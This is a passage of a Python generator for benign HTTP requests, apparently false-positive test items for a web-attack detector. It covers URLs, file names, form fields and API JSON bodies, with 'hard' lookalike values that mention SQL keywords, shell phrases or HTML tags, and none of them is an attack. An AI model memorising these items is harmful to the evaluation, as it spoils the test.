        ("filters[slug][$eq]", "how-we-ship"),
        ("filters[publishedAt][$notNull]", "true"),
        ("filters[$or][0][title][$containsi]", "select"),
    ]
    for j, kv in enumerate(strapi):
        items[N_SOFT + j] = I(
            "k",
            kv=kv,
            hard=True,
            ctx=pick([("GET", "/api/articles"), ("GET", "/api/products")]),
            more=[("populate", "*"), ("pagination[pageSize]", "10")],
        )
    return items


ITEMS["benign_search"] = gen_search()


# ---------------------------------------------------------------- benign_urls
def soft_urls():
    out = []
    for i in range(60):
        k = i % 12
        if k == 0:
            out.append(
                "https://www.%s/products/%s?color=%s&size=%s"
                % (
                    pick(["velvetpine.com", "mintbarrow.io", "copperfen.de"]),
                    pick(["linen-shirt", "wool-socks", "desk-lamp", "rain-jacket"]),
                    pick(["blue", "sage", "black"]),
                    pick(["s", "m", "l"]),
                )
            )
        elif k == 1:
            out.append(
                "https://docs.python.org/3/library/%s.html#%s"
                % (
                    pick(["json", "asyncio", "pathlib", "datetime"]),
                    pick(["module-contents", "examples", "basic-usage"]),
                )
            )
        elif k == 2:
            out.append(
                "https://github.com/%s/%s/pull/%d"
                % (pick(["acme", "larkspur", "quill-labs"]), pick(["api", "web", "infra"]), R.randint(100, 9999))
            )
        elif k == 3:
            out.append("https://www.youtube.com/watch?v=%s&t=%ds" % (alnum(11), R.randint(5, 900)))
        elif k == 4:
            out.append("https://maps.google.com/?q=%.4f,%.4f" % (R.uniform(40, 55), R.uniform(-5, 15)))
        elif k == 5:
            out.append(
                "https://hooks.%s/services/%s/%s"
                % (pick(["larkspur-freight.com", "quillmetrics.net"]), alnum(9).upper(), alnum(24))
            )
        elif k == 6:
            out.append(
                "https://calendar.%s/event/%s?tz=Europe%%2FBerlin" % (pick(["kindlepath.io", "wrenlake.ai"]), hexs(10))
            )
        elif k == 7:
            out.append(
                "https://%s/blog/%d/%02d/%s"
                % (
                    pick(["fernhollow-press.org", "lumenhaus.eu"]),
                    R.randint(2019, 2026),
                    R.randint(1, 12),
                    pick(["winter-menu", "release-notes-4-2", "our-new-office", "hiring-backend"]),
                )
            )
        elif k == 8:
            out.append(
                "https://cdn.%s/img/%s.webp?w=%d&q=80"
                % (pick(["velvetpine.com", "mintbarrow.io"]), hexs(12), pick([320, 640, 1280]))
            )
        elif k == 9:
            out.append("https://app.%s/invite/%s" % (pick(["kindlepath.io", "orbitkettle.io"]), alnum(16)))
        elif k == 10:
            out.append(
                "https://www.linkedin.com/in/%s-%s-%s/"
                % (pick(FIRST).lower(), pick(["smith", "patel", "nguyen", "rossi"]), hexs(6))
            )
        else:
            out.append(
                "https://status.%s/incidents/%s" % (pick(["ravenmoor.cloud", "hollowcrest.app"]), alnum(12).lower())
            )
    return sorted(set(out))


URLS_HARD = [
    "http://localhost:3000/auth/callback",
    "http://127.0.0.1:8080/oauth/callback",
    "https://[2001:db8::1]:8443/status",
    "https://xn--bcher-kva.example/katalog?seite=2",
    "https://xn--80ak6aa92e.com/",
    "https://example.com/search?q=select+*+from+users",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/eval",
    "https://github.com/acme/api/compare/v1.2.0...v1.3.0",
    "https://owasp.org/www-community/attacks/xss/",
    "https://app.kindlepath.io/#/settings?tab=security",
    "https://medium.com/@jdoe/why-we-left-php-1a2b3c4d",
    "https://www.mintbarrow.io/redirect?url=https%3A%2F%2Fpartner.example%2Flanding%3Fref%3Dmb",
    "http://192.168.1.10:8123/api/webhook/garage-door",
    "https://en.wikipedia.org/wiki/Union_(SQL)",
    "https://stackoverflow.com/questions/7887011/how-to-drop-a-table-if-it-exists",
    "https://www.google.com/search?q=%3Cscript%3E+tag+defer",
    "http://[::1]:5173/",
    "https://s3.eu-west-1.amazonaws.com/lh-exports/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=900&X-Amz-Signature="
    + hexs(64),
    "https://learn.microsoft.com/en-us/sql/t-sql/statements/drop-table-transact-sql",
    "https://nodejs.org/api/child_process.html#child_processexecsynccommand-options",
    "https://docs.python.org/3/library/subprocess.html#subprocess.run",
    "webcal://calendar.wrenlake.ai/team/ops.ics",
    "https://www.php.net/manual/en/function.system.php",
    "https://jwt.io/#debugger-io?token=eyJhbGciOiJIUzI1NiJ9",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html#jndi-lookup",
    "https://intranet.ashgrove-legal.com:8443/wiki/Runbook_(cat_etc_hosts)",
    "http://10.20.0.15:9090/graph?g0.expr=up",
    "https://example.org/a/b/../c/./d.html",
    "https://api.wrenlake.ai/v1/files?path=/reports/2026/q4.csv",
    "https://cdn.jsdelivr.net/npm/dompurify@3.1.6/dist/purify.min.js",
    "https://www.w3.org/2000/svg",
    "https://regex101.com/r/aB3dE9/1?flavor=pcre&regex=%5E%28.%2A%29%24",
    "ftp://ftp.gnu.org/gnu/bash/",
    "https://portal.brindlebank.co.uk/login?next=%2Fadmin%2Fusers%3Ftab%3Droles",
    "https://www.mintbarrow.io/search?q=o%27neill+boots",
    "https://user@git.larkspur-freight.com/ops/deploy.git",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://www.mintbarrow.io/p/kids-rain-jacket#reviews",
    "http://0.0.0.0:8000/docs",
    "https://translate.google.com/?sl=de&tl=en&text=Stra%C3%9Fe",
]


def gen_urls():
    soft, hard = sample(soft_urls(), N_SOFT), sample(URLS_HARD, N_HARD)

    def plan(i, t, h):
        r = i % 9
        if r < 2:
            extra = [
                ("response_type", "code"),
                ("client_id", "web-" + hexs(8)),
                ("scope", "openid%20profile%20email"),
                ("state", alnum(22)),
            ]
            return I("q", t, h, ctx=("GET", "/oauth/authorize", "redirect_uri"), extra_q=extra, qpos=2)
        if r < 4:
            return I(
                "q",
                t,
                h,
                ctx=pick(
                    [
                        ("GET", "/api/v1/link-preview", "url"),
                        ("GET", "/login", "next"),
                        ("GET", "/share", "u"),
                        ("GET", "/logout", "return_to"),
                    ]
                ),
            )
        if r < 7:
            return I(
                "j",
                t,
                h,
                ctx=pick(
                    [
                        ("PATCH", "/api/v1/users/me", "website", {"display_name": person()}),
                        ("POST", "/api/v1/webhooks", "url", {"events": ["invoice.paid"], "active": True}),
                        ("PUT", "/api/v1/integrations/slack", "callback_url", {"channel": "#alerts"}),
                        ("POST", "/api/v1/bookmarks", "href", {"title": "Read later", "tags": ["reading"]}),
                    ]
                ),
            )
        return I(
            "f",
            t,
            h,
            ctx=pick(
                [
                    ("POST", "/account/profile", "website", [("display_name", person())]),
                    ("POST", "/admin/settings/oauth", "redirect_uri", [("client_name", "Internal dashboard")]),
                ]
            ),
        )

    return spread(soft, hard, plan)


ITEMS["benign_urls"] = gen_urls()

# ---------------------------------------------------------------- benign_files
FILES_SOFT = [
    "Q3 report final.pdf",
    "meeting-notes_2026-12-01.md",
    "customers export (2026-11).csv",
    "contract v1.3.2 signed.pdf",
    "Pr\u00e4sentation Notizen.txt",
    "\u65e5\u672c\u8a9e\u30e1\u30e2.txt",
    "caf\u00e9 menu.pdf",
    "expenses_Nov 2026.csv",
    "README (copy).md",
    "invoice-INV-20418.pdf",
    "packing list 3.txt",
    "data.json",
    "r\u00e9sum\u00e9 \u2013 Zo\u00eb Mart\u00edn.pdf",
    "Notes 2026.12.01 10.42.txt",
    "inventory_v2.0.1.csv",
    "changelog-1.4.0.md",
    "Lebenslauf_M\u00fcller.pdf",
    "syllabus (spring term).pdf",
    "holiday-rota.ics",
    "server-2026-11-30.log",
    "quarterly_numbers_FINAL_v3.csv",
    "Angebot Nr. 2026-118.pdf",
    "lecture 04 \u2013 graphs.pdf",
    "IMG_2041.JPG",
    "holiday photos (1).zip",
    "budget 2027 (draft).xlsx",
    "logo@2x.png",
    "Screenshot 2026-12-01 at 10.42.13.png",
    "podcast_ep42_final_FINAL.mp3",
    "floor plan \u2013 level 2.dwg",
    "team-offsite 2026 [edited].mov",
    "backup-2026.12.01.tar.zst",
    "design_system_v3.fig",
    "DSC_0042 (2).NEF",
    "Pr\u00e4sentation Q4.pptx",
    "photo \U0001f305 sunset.heic",
    "app-release-4.12.0.apk",
    "Inter-Variable.woff2",
    "scan_0001.tif",
    "Kostenaufstellung 2026.xlsx",
    "wedding video \u2013 part 2.mp4",
    "thesis_chapter_3_v0.9.docx",
    "brand-guidelines 2026.key",
    "site plan (rev B).dxf",
    "family_photo_2026-07-14.jpeg",
    "audio memo 14.m4a",
    "oc\u00e9an.png",
]
FILES_HARD = [
    "drop_table_migration_0042.sql",
    "select-union-report.csv",
    "O'Brien & Sons \u2013 invoice #42.pdf",
    "script.js",
    "web.config",
    ".htaccess",
    "cmd_reference.md",
    "exec-summary (final).pdf",
    "100% cotton \u2013 product sheet.pdf",
    "<draft> notes.txt",
    "alert-rules.yaml",
    "passwd-policy-2026.docx",
    "etc-hosts-backup.txt",
    "C:\\Users\\jdoe\\Desktop\\report.pdf",
    "~$budget.xlsx",
    "shell_scripts.zip",
    "union-station-map.png",
    "DROP-OFF instructions.pdf",
    "setup.exe",
    "a;b;c.csv",
    "file (1) (1) (1).pdf",
    "rm -rf explained.pdf",
    "index.html",
    "docker-compose.override.yml",
    "id_rsa.pub",
    "Bobby Tables (xkcd 327).png",
    "sleep(5) meditation.mp3",
    "${HOME} backup.tar",
    "{{name}} template.docx",
    "user's guide & FAQ.pdf",
    "2026-12-01T10:42:13+01:00.log",
    "nginx.conf",
    ".env.example",
    "%appdata% cleanup.bat",
    "jndi-notes.md",
    "phpinfo screenshot.png",
    "<script> tag cheatsheet.pdf",
    "UNION ALL vs UNION.sql",
    "1=1 whiteboard.jpg",
    "--help output.txt",
]


def file_header_item(t, h):
    if t.isascii() and '"' not in t and "\\" not in t and R.random() < 0.5:
        if R.random() < 0.5:
            name, val = "X-File-Name", t
        else:
            name, val = "Content-Disposition", 'attachment; filename="%s"' % t
    elif R.random() < 0.5:
        name = "Dropbox-API-Arg"
        val = json.dumps({"path": "/Uploads/" + t, "mode": "add", "autorename": True, "mute": False})
    else:
        name = "Content-Disposition"
        val = "attachment; filename*=UTF-8''" + pct(t)
    return I(
        "h",
        val,
        h,
        name=name,
        gp=pick([("POST", "/2/files/upload", ""), ("PUT", "/api/v1/blobs/" + uuid4(), "")]),
        hbody=("application/octet-stream", "(binary file content)"),
        kind="client",
    )


def gen_files():
    soft, hard = sample(FILES_SOFT, N_SOFT), sample(FILES_HARD, N_HARD)
    mp = [
        ("POST", "/api/v1/files", "file", "filename", [("folder_id", "fld_" + alnum(10))]),
        ("POST", "/api/v2/attachments", "attachment", "filename", [("ticket_id", str(R.randint(40000, 49999)))]),
        ("POST", "/upload", "files[]", "filename", [("_token", alnum(40))]),
    ]
    pc = [
        ("GET", "/api/v1/files/by-name/", ""),
        ("DELETE", "/api/v1/files/", ""),
        ("GET", "/storage/v1/object/public/uploads/", ""),
        ("GET", "/dav/Documents/", ""),
    ]
    qc = [
        ("GET", "/api/v1/files/download", "name"),
        ("GET", "/api/v2/exports", "filename"),
        ("GET", "/api/v1/search/files", "q"),
    ]

    def plan(i, t, h):
        ext = t.rsplit(".", 1)[-1].lower() if "." in t else ""
        r = i % 8
        if r in (0, 1, 2) and ext in FILE_CONTENT:
            return I("m", t, h, ctx=pick(mp), mk="filename", ext=ext)
        if r in (0, 3, 7):
            return I("p", t, h, ctx=pick(pc))
        if r in (1, 4):
            return I("q", t, h, ctx=pick(qc))
        if r in (2, 5):
            return I(
                "j",
                t,
                h,
                ctx=pick(
                    [
                        ("PATCH", "/api/v1/files/fil_" + alnum(10), "name", {"parent_id": "fld_" + alnum(10)}),
                        (
                            "POST",
                            "/api/v1/uploads/presign",
                            "filename",
                            {"content_type": "application/octet-stream", "size": R.randint(2000, 90000000)},
                        ),
                    ]
                ),
            )
        return file_header_item(t, h)

    return spread(soft, hard, plan)


ITEMS["benign_files"] = gen_files()

# ---------------------------------------------------------------- benign_forms
FORM_FIELDS = {
    "name": [
        ("POST", "/checkout/address", "full_name"),
        ("POST", "/contact", "name"),
        ("POST", "/signup", "full_name"),
        ("POST", "/careers/apply", "full_name"),
        ("POST", "/events/rsvp", "name"),
        ("POST", "/donate", "name"),
    ],
    "company": [
        ("POST", "/checkout/address", "company"),
        ("POST", "/signup", "company"),
        ("PUT", "/account/billing", "company_name"),
    ],
    "address": [
        ("POST", "/checkout/address", "address1"),
        ("POST", "/checkout/address", "address2"),
        ("PUT", "/account/billing", "billing_address"),
    ],
    "city": [("POST", "/checkout/address", "city")],
    "postcode": [("POST", "/checkout/address", "postcode")],
    "phone": [("POST", "/checkout/address", "phone"), ("POST", "/careers/apply", "phone")],
    "message": [
        ("POST", "/contact", "message"),
        ("POST", "/support/request", "details"),
        ("POST", "/checkout/address", "delivery_notes"),
    ],
    "review": [("POST", "/reviews/new", "body"), ("POST", "/reviews/new", "title")],
    "password": [("POST", "/signup", "password"), ("POST", "/account/password", "new_password")],
    "dietary": [("POST", "/events/rsvp", "dietary")],
    "dedication": [("POST", "/donate", "dedication")],
    "cover": [("POST", "/careers/apply", "cover_letter")],
}


def forms_soft():
    out = []
    for _ in range(6):
        out.append(
            (
                "name",
                "%s %s"
                % (pick(FIRST), pick(["Schmidt", "Nguyen", "Patel", "Rossi", "Garcia", "Tanaka", "Smith", "Okafor"])),
            )
        )
        out.append(
            (
                "address",
                "%d %s"
                % (
                    R.randint(2, 220),
                    pick(["Maple Avenue", "High Street", "Queen Street", "Lindenallee", "Oak Lane", "Harbour Road"]),
                ),
            )
        )
        out.append(
            (
                "phone",
                "+%d %d %d %04d"
                % (pick([1, 44, 49, 33, 61]), R.randint(20, 999), R.randint(100, 999), R.randint(0, 9999)),
            )
        )
        out.append(
            (
                "company",
                pick(["Northwind Traders", "Globex", "Initech", "Blue Harbor Analytics", "Kestrel Outdoor"])
                + " "
                + pick(["Ltd", "Inc", "BV", "GmbH", "LLC"]),
            )
        )
        out.append(
            ("message", "Could you tell me when the %s is back in stock?" % pick(PRODUCTS).split(" (")[0].lower())
        )
        out.append(
            ("postcode", pick(["LS1 4AB", "10115", "78701", "1012 AB", "D02 X285", "SW7 2AZ", "69002", "M5V 2T6"]))
        )
        out.append(
            ("city", pick(["Leeds", "Lyon", "Austin", "Utrecht", "Porto", "Graz", "M\u00fcnchen", "Malm\u00f6"]))
        )
    out += [
        ("name", "Jos\u00e9 Garc\u00eda"),
        ("name", "Zo\u00eb M\u00fcller"),
        ("address", "Flat 2"),
        ("address", "Second floor, blue door"),
        ("address", "Building C"),
        ("message", "Please leave the parcel at reception."),
        ("message", "I would like to change my delivery date to Friday."),
        ("message", "Mornings work best for a call"),
        ("message", "Reception closes at 6pm"),
        ("review", "Great fit and fast shipping"),
        ("review", "Comfortable, warm and the colour matches the photos."),
        ("dietary", "Vegetarian"),
        ("dietary", "Gluten free please"),
        ("dedication", "Happy birthday Mum, love from all of us"),
        ("cover", "Senior backend engineer with 8 years of Go and Python experience."),
        ("password", "Lighthouse-Ferry-42"),
        ("password", "walnut orbit candle 1987"),
    ]
    seen, res = set(), []
    for t, v in out:
        if v not in seen:
            seen.add(v)
            res.append((t, v))
    return res


FORMS_HARD = [
    ("name", "Siobhan O'Brien"),
    ("name", "Marco D'Angelo-Smith"),
    ("name", "Zo\u00eb D'Souza"),
    ("name", "Conan O'Neil-D'Arcy"),
    ("company", "Smith & Sons Ltd."),
    ("company", "AT&T"),
    ("company", "Ben & Jerry's"),
    ("company", "Script & Seal Calligraphy"),
    ("company", "Select Comfort Mattress Co."),
    ("company", "Union Pacific"),
    ("company", "Procter & Gamble"),
    ("address", "Apt #4; ring twice"),
    ("address", "c/o Mary O'Neil"),
    ("address", "Rue de l'\u00c9glise 14"),
    ("address", "P.O. Box 12 -- back entrance"),
    ("address", "#12-03 Marina Bay"),
    ("address", "1/2 Main St."),
    ("address", "Apt. 5 & 6 (combined)"),
    ("phone", "+44 (0)20 7946-0958 ext. 12"),
    ("message", "Please select the 'Union' plan -- thanks!"),
    ("message", "We're a B&B; breakfast 7-9am"),
    ("message", "Price was $5 < $10, as expected"),
    ("message", 'Tom said: "it\'s fine"'),
    ("message", "50% off? yes/no"),
    ("message", "Delete my account please; I've moved to a new one."),
    ("message", "x=1, y=2 (see attached sketch)"),
    ("message", "Order #88412 -- wrong size (M not L)"),
    ("message", "<b>bold</b> doesn't render in my signature"),
    ("message", "email me at jo+orders@example.com"),
    ("message", "Hash: #!/bin/bash was in the attachment by mistake"),
    ("message", "Drop-off at side door (code #4471)"),
    ("message", "Cancel order; it's a duplicate (#88412 & #88413)"),
    ("message", "Is 'free shipping' for orders >= $50?"),
    ("review", "Love it <3 <3"),
    ("review", "5/5 -- would <3 again"),
    ("review", "The 'drop' feature works; select & drag is smooth."),
    ("review", "Works with Windows & macOS; setup took <5 min"),
    ("password", "Tr0ub4dor&3"),
    ("password", "p@$$w0rd!<>"),
    ("password", "Sunny'Day#2026"),
    ("password", "correct-horse;battery=staple"),
    ("dietary", "no nuts; no dairy (lactose) & vegetarian"),
    ("dedication", 'In memory of Grandpa "Bud" O\'Malley'),
    ("dedication", "Mother's Day brunch & cake"),
    ("cover", "I built a SQL reporting tool (SELECT, JOIN, UNION) for our finance team."),
    ("cover", "Familiar with the OWASP Top 10: XSS, SQL injection, CSRF and SSRF."),
]


def gen_forms():
    soft, hard = sample(forms_soft(), N_SOFT), sample(FORMS_HARD, N_HARD)

    def plan(i, tv, h):
        typ, val = tv
        method, path, field = pick(FORM_FIELDS[typ])
        nm = "%s %s" % (pick(FIRST), pick(["Schmidt", "Nguyen", "Patel", "Rossi"]))
        extras = [("email", email_of(nm)), ("country", pick(["IE", "GB", "DE", "US", "NL"])), ("csrf_token", alnum(40))]
        R.shuffle(extras)
        return I("f", val, h, ctx=(method, path, field, extras[: R.randint(1, 3)]), kind="browser")

    return spread(soft, hard, plan)


ITEMS["benign_forms"] = gen_forms()


# ---------------------------------------------------------------- benign_api_json
def iso():
    return "2026-%02d-%02dT%02d:%02d:%02dZ" % (
        R.randint(10, 12),
        R.randint(1, 28),
        R.randint(0, 23),
        R.randint(0, 59),
        R.randint(0, 59),
    )


def api_soft_one(k):
    nm = person()
    if k == 0:
        note = pick(
            [
                "Please deliver after 5pm",
                "Gift wrap please",
                "Leave with neighbour at no. %d" % R.randint(2, 60),
                "Call on arrival",
                "No rush, birthday is next month",
                "Please use recycled packaging",
                "Deliver to side entrance",
            ]
        )
        doc = {
            "customer_id": "cus_" + alnum(14),
            "currency": pick(["EUR", "GBP", "USD"]),
            "items": [
                {
                    "sku": "SKU-%d" % R.randint(1000, 9999),
                    "qty": R.randint(1, 4),
                    "unit_price": "%.2f" % R.uniform(5, 400),
                }
            ],
            "shipping": {
                "name": nm,
                "line1": "%d %s" % (R.randint(1, 200), pick(["Harbour Road", "Oak Lane", "Market St"])),
                **dict(
                    zip(
                        ("city", "postal_code", "country"),
                        pick([("Dublin", "D02 X285", "IE"), ("Leeds", "LS1 4AB", "GB"), ("Berlin", "10115", "DE")]),
                    )
                ),
            },
            "note": SENT,
        }
        return ("POST", "/api/v2/orders"), doc, note + " (order %d)" % R.randint(1000, 9999)
    if k == 1:
        return (
            ("PATCH", "/api/v1/users/me"),
            {
                "display_name": SENT,
                "timezone": pick(["Europe/Dublin", "America/Chicago", "Asia/Tokyo"]),
                "notifications": {"email": True, "push": chance(0.5)},
            },
            nm,
        )
    if k == 2:
        return (
            ("POST", "/api/v1/payment_intents"),
            {
                "amount": R.randint(500, 250000),
                "currency": pick(["eur", "usd", "gbp"]),
                "description": SENT,
                "metadata": {"order_id": "ord_" + alnum(12)},
                "capture_method": "automatic",
            },
            "Order #%d - %s" % (R.randint(10000, 99999), pick(PRODUCTS)),
        )
    if k == 3:
        return (
            ("POST", "/api/v1/events"),
            {
                "event": "page_view",
                "ts": iso(),
                "anonymous_id": uuid4(),
                "properties": {"title": SENT, "path": "/p/" + hexs(6), "referrer": "https://www.google.com/"},
            },
            "%s | %s" % (pick(PRODUCTS), pick(["Velvet Pine", "Mint Barrow", "Copperfen"])),
        )
    if k == 4:
        return (
            ("PUT", "/api/v3/inventory/items/SKU-%d" % R.randint(1000, 9999)),
            {"stock": R.randint(0, 500), "location": SENT, "updated_at": iso()},
            "Warehouse %s, aisle %d, shelf %d" % (pick("ABCDE"), R.randint(1, 40), R.randint(1, 8)),
        )
    if k == 5:
        return (
            ("POST", "/api/v1/tickets"),
            {
                "subject": SENT,
                "priority": pick(["low", "normal", "high"]),
                "tags": [pick(["billing", "shipping", "account"])],
                "requester": {"email": email_of(nm)},
            },
            pick(
                [
                    "Invoice %d missing VAT number",
                    "Parcel %d arrived damaged",
                    "Cannot update card for account %d",
                    "Refund for order %d",
                ]
            )
            % R.randint(10000, 99999),
        )
    if k == 6:
        return (
            ("POST", "/api/v1/calendars/primary/events"),
            {
                "summary": SENT,
                "start": {"dateTime": iso(), "timeZone": "Europe/Dublin"},
                "end": {"dateTime": iso(), "timeZone": "Europe/Dublin"},
                "attendees": [{"email": email_of(nm)}],
            },
            pick(
                [
                    "Sprint review",
                    "1:1 %s" % nm,
                    "Quarterly planning",
                    "Design critique",
                    "Customer call: %s" % pick(COMPANIES[:3]),
                ]
            )
            + " #%d" % R.randint(1, 99),
        )
    if k == 7:
        return (
            ("PATCH", "/api/v1/flags/%s" % pick(["new-checkout", "fast-search", "dark-mode"])),
            {"enabled": True, "rollout": {"percentage": pick([5, 25, 50, 100])}, "description": SENT},
            "Roll out to %d%% of EU users from %s" % (pick([5, 10, 25]), pick(["Monday", "week 50", "2026-12-14"])),
        )
    if k == 8:
        return (
            ("POST", "/api/v1/addresses/validate"),
            {
                "line1": SENT,
                "city": pick(["Austin", "Toronto", "Sydney"]),
                "postal_code": pick(["78701", "M5V 2T6", "2000"]),
                "country_code": pick(["US", "CA", "AU"]),
            },
            "%d %s" % (R.randint(1, 9000), pick(["Congress Ave", "King St W", "George St", "Elm Drive"])),
        )
    return (
        ("POST", "/webhooks/carrier"),
        {
            "tracking_number": "1Z" + alnum(16).upper(),
            "status": SENT,
            "occurred_at": iso(),
            "location": {"city": pick(["Memphis", "Leipzig", "Louisville"]), "country": pick(["US", "DE"])},
        },
        pick(["Out for delivery", "Arrived at facility", "Delivered - front porch", "Label created", "In transit"])
        + " (%d)" % R.randint(1, 999),
    )


API_HARD = [
    (
        ("POST", "/api/v2/orders"),
        {"items": [{"sku": "SKU-2291", "qty": 1}], "note": SENT},
        "Leave at back door -- gate code #4471",
    ),
    (
        ("POST", "/api/v2/orders"),
        {"items": [{"sku": "SKU-1042", "qty": 2}], "note": SENT},
        "Select the 'Union Jack' gift wrap please",
    ),
    (
        ("POST", "/api/v2/orders"),
        {"items": [{"sku": "SKU-7781", "qty": 1}], "note": SENT},
        "Drop off with O'Neil at reception; don't ring (baby sleeping)",
    ),
    (
        ("POST", "/api/v1/tickets"),
        {"priority": "high", "subject": SENT},
        "DELETE button does nothing on /settings/team",
    ),
    (("POST", "/api/v1/tickets"), {"priority": "normal", "subject": SENT}, 'Error: relation "orders" does not exist'),
    (
        ("PUT", "/api/v1/apis/shop/spec"),
        {
            "openapi": "3.1.0",
            "info": {"title": "Shop", "version": "2.4.0"},
            "paths": {"/addresses": {"post": {"requestBody": {"content": {"application/json": {"schema": SENT}}}}}},
        },
        {"$ref": "#/components/schemas/Address"},
    ),
    (
        ("POST", "/api/v1/forms/schema"),
        {"form_id": "frm_contact", "schema": SENT},
        {"$schema": "https://json-schema.org/draft/2020-12/schema", "type": "object", "required": ["email"]},
    ),
    (
        ("PUT", "/api/v1/notifications/templates/shipped"),
        {"channel": "email", "body": SENT},
        "Hello {{first_name}}, your order {{order_id}} has shipped!",
    ),
    (("POST", "/api/v1/jobs"), {"name": "sync-inventory", "schedule": SENT, "timezone": "UTC"}, "*/15 * * * *"),
    (
        ("PUT", "/api/v1/fields/iban/validation"),
        {"pattern": SENT, "message": "Invalid IBAN"},
        "^[A-Z]{2}\\d{2}[A-Z0-9]{1,30}$",
    ),
    (
        ("POST", "/api/card"),
        {
            "name": "Daily paid orders",
            "display": "line",
            "dataset_query": {"type": "native", "database": 2, "native": {"query": SENT}},
        },
        "SELECT date_trunc('day', created_at) AS day, count(*) FROM orders WHERE status = 'paid' GROUP BY 1 ORDER BY 1",
    ),
    (
        ("PUT", "/api/v1/sites/site_8f3c/build-settings"),
        {"base_dir": "web", "command": SENT, "publish": "dist"},
        "npm ci && npm run build -- --mode=production",
    ),
    (
        ("POST", "/api/v1/namespaces/default/pods"),
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "debug-shell"},
            "spec": {"containers": [{"name": "box", "image": "busybox:1.36", "command": ["/bin/sh", "-c", SENT]}]},
        },
        "echo ready && sleep 3600",
    ),
    (
        ("POST", "/api/v1/campaigns"),
        {"name": "Invoice reminder", "html": SENT},
        "<p>Hi {{name}},</p><p>Your invoice <strong>#{{invoice}}</strong> is attached.</p>",
    ),
    (
        ("POST", "/api/v1/client-errors"),
        {"release": "web@4.12.0", "stack": SENT},
        "TypeError: Cannot read properties of undefined (reading 'map')\n    at renderList (https://www.mintbarrow.io/static/js/main.8f3c2a.js:2:18811)\n    at eval (eval at <anonymous> (main.js:1:1), <anonymous>:1:1)",
    ),
    (
        ("POST", "/rest/api/3/search"),
        {"jql": SENT, "maxResults": 50},
        "project = OPS AND status != Done AND (assignee = currentUser() OR reporter = currentUser()) ORDER BY updated DESC",
    ),
    (("POST", "/api/v1/transforms"), {"name": "expensive-items", "expression": SENT}, "$.items[?(@.price > 10)].sku"),
    (("PUT", "/api/v1/backup/targets/db1"), {"source_path": SENT, "retention_days": 30}, "/var/lib/postgresql/16/main"),
    (
        ("PATCH", "/api/v1/changelog/entries/88"),
        {"description": SENT},
        "Use <kbd>Ctrl</kbd>+<kbd>K</kbd> to open search",
    ),
    (
        ("POST", "/api/v2/products"),
        {"title": SENT, "price": "899.00", "currency": "EUR"},
        "Union Street 3-seat sofa (select fabric)",
    ),
    (
        ("POST", "/api/v2/orders"),
        {"items": [{"sku": "SKU-5120", "qty": 1}], "note": SENT},
        "1 OR 2 boxes? whichever is cheaper",
    ),
    (
        ("POST", "/api/v1/alerts"),
        {"name": "CPU high", "condition": SENT, "notify": ["#ops"]},
        "avg(cpu_usage) > 90 for 5m",
    ),
    (
        ("POST", "/api/v1/segments"),
        {"name": "DACH November", "where": SENT},
        "created_at >= '2026-11-01' AND country IN ('DE','AT','CH')",
    ),
    (("PUT", "/api/v1/sheets/sh_82a1/cells/C15"), {"formula": SENT}, "=SUM(B2:B14)/COUNT(B2:B14)"),
    (
        ("PUT", "/api/v1/pipelines/42/steps/build"),
        {"image": "eclipse-temurin:21", "run": SENT},
        "./gradlew assemble --no-daemon; echo done",
    ),
    (
        ("POST", "/api/chat.postMessage"),
        {"channel": "C04DEPLOY", "text": SENT},
        "Deploy finished :rocket: `git log -1 --oneline` => 8f3c2a1 fix(cart): rounding",
    ),
    (
        ("POST", "/webhooks/helpdesk"),
        {"event": "comment.created", "comment_html": SENT},
        "Customer wrote: <i>please hurry</i>, it's a gift",
    ),
    (
        ("PUT", "/api/v1/i18n/en/strings/confirm_delete"),
        {"value": SENT},
        'Are you sure you want to delete "{name}"? This can\'t be undone.',
    ),
    (
        ("POST", "/api/v1/apps/app_71c2/env"),
        {"name": "DATABASE_URL", "value": SENT},
        "postgres://app:s3cr%40t@db.internal:5432/app?sslmode=require",
    ),
    (("PATCH", "/api/v1/runbooks/7"), {"hint": SENT}, "**Note:** use `--force` only when the lock file is stale"),
    (("PATCH", "/api/v1/users/me"), {"bio": SENT}, "Full-stack dev. Loves <canvas>, SQL & bash one-liners."),
    (("PUT", "/api/v1/repos/web/lint-config"), {"include": [SENT], "exclude": ["dist/**"]}, "src/**/*.{ts,tsx}"),
    (
        ("PUT", "/api/v1/sites/s_19/custom-config"),
        {"snippet": SENT},
        "location /api/ { proxy_pass http://127.0.0.1:8080; }",
    ),
    (("POST", "/api/v1/saved-searches"), {"query": SENT, "notify": True}, 'title:"drop shipping" OR tag:union'),
    (
        ("POST", "/api/v1/quotes"),
        {"display_total": SENT, "amount": 129900},
        "\u20ac1.299,00 incl. 19% MwSt. (netto \u20ac1.091,60)",
    ),
    (
        ("POST", "/api/v1/tickets"),
        {"subject": "Laptop frozen", "description": SENT},
        "Ctrl+Alt+Del didn't work; had to hold power 10s -- now it's fine",
    ),
    (("POST", "/api/v1/settings/redirects"), {"from": SENT, "to": "/sale", "status": 301}, "/old-shop/*"),
    (
        ("POST", "/api/v1/translations"),
        {"key": "hero.title", "text": SENT},
        "Script your workflow & ship <b>faster</b>",
    ),
]


def gen_api_json():
    soft, seen = [], set()
    k = 0
    while len(soft) < N_SOFT:
        ctx, doc, val = api_soft_one(k % 10)
        k += 1
        if val not in seen:
            seen.add(val)
            soft.append(I("j", val, False, ctx=ctx, doc=doc))
    hard = []
    for ctx, doc, val in [API_HARD[i] for i in R.sample(range(len(API_HARD)), N_HARD)]:
        if isinstance(val, dict):
            hard.append(I("j", cjson(val), True, ctx=ctx, doc=doc, obj=val))
        else:
            hard.append(I("j", val, True, ctx=ctx, doc=doc))
    return soft + hard


ITEMS["benign_api_json"] = gen_api_json()


# ---------------------------------------------------------------- benign_code
def code_soft(k, n, nm):
    fn = nm.lower()
    c = [
        (
            "py",
            "def fib(n):\n    a, b = 0, 1\n    for _ in range(n):\n        a, b = b, a + b\n    return a\n\n\nprint([fib(i) for i in range(%d)])\n"
            % n,
        ),
        (
            "js",
            "export function debounce(fn, wait = %d) {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn(...args), wait);\n  };\n}\n"
            % (n * 10),
        ),
        (
            "go",
